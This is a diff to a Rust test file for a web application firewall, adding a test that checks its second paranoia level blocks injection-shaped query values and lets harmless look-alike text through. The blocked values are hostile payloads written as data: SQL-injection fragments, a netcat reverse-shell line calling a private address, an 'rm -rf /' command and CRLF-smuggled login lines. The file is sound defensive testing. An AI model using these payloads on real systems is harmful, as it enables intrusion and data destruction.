@@ -16,6 +16,11 @@ fn upload(file_name: &str) -> wasmgress_sdk::Request {
     testing::post("/up", body).header("content-type", "multipart/form-data; boundary=B").build()
 }
 
+/// `v` with every byte but letters and digits written `%XX`.
+fn percent_encoded(v: &str) -> String {
+    v.bytes().map(|b| if b.is_ascii_alphanumeric() { char::from(b).to_string() } else { format!("%{b:02X}") }).collect()
+}
+
 fn blocked(waf: &Waf, request: wasmgress_sdk::Request) -> bool {
     matches!(testing::request(waf, request).0, Decision::Respond(r) if r.status == 403)
 }
@@ -348,6 +353,52 @@ fn paranoia_levels_add_rules() {
     assert!(!blocked(&pl4, get("/?from=2026-11-27&ids=1,2,3&path=/a/b")));
     assert!(!blocked(&pl2, upload("shell.php.jpg")));
     assert!(blocked(&pl3, upload("shell.php.jpg")));
+}
+
+/// Level 2's SQL, shell and PHP shapes, each with prose or code that
+/// looks like it and passes.
+#[test]
+fn level_two_shapes() {
+    let (pl1, pl2) = (waf(r#"{"paranoia_level": 1}"#), waf(r#"{"paranoia_level": 2}"#));
+    let arg = |v: &str| testing::get(&format!("/?x={}", percent_encoded(v))).build();
+    for a in [
+        "AND backend_layout!=",
+        "||(null!=",
+        "&&(a=\"",
+        "div role=\"",
+        "/3 and(",
+        ";SET @OLD_SQL_MODE",
+        "4oR2-",
+        "--alter",
+        "1=1",
+        "42 like 42",
+        "1 is not 2",
+        "\"'",
+        "admin@x.test' or glob (id,id);",
+        "ansible all -m ping",
+        ";\n.shell nc 10.0.0.1 6666 -e sh",
+        "ifconfig;. rm -rf /",
+        "\r\na001 login bob secret\r\n",
+        "array_diff (",
+        "tidy_parse_string()",
+    ] {
+        assert!(blocked(&pl2, arg(a)), "{a}");
+    }
+    assert!(blocked(&pl1, arg("Xunionselectfrom")));
+    for t in [
+        "<div id=\"main\">hello</div>",
+        "Experience with C and C++ (required)",
+        "for x = (1, 2)",
+        "1+1=2",
+        "version 1 is not 2",
+        "python tutorial for beginners -- part 2",
+        "Line one\r\nstep 1 select your size",
+        "please select 1 option; updated daily",
+        "my_function(x)",
+        "5 feet",
+    ] {
+        assert!(!blocked(&pl2, arg(t)), "{t}");
+    }
 }
 
 #[test]
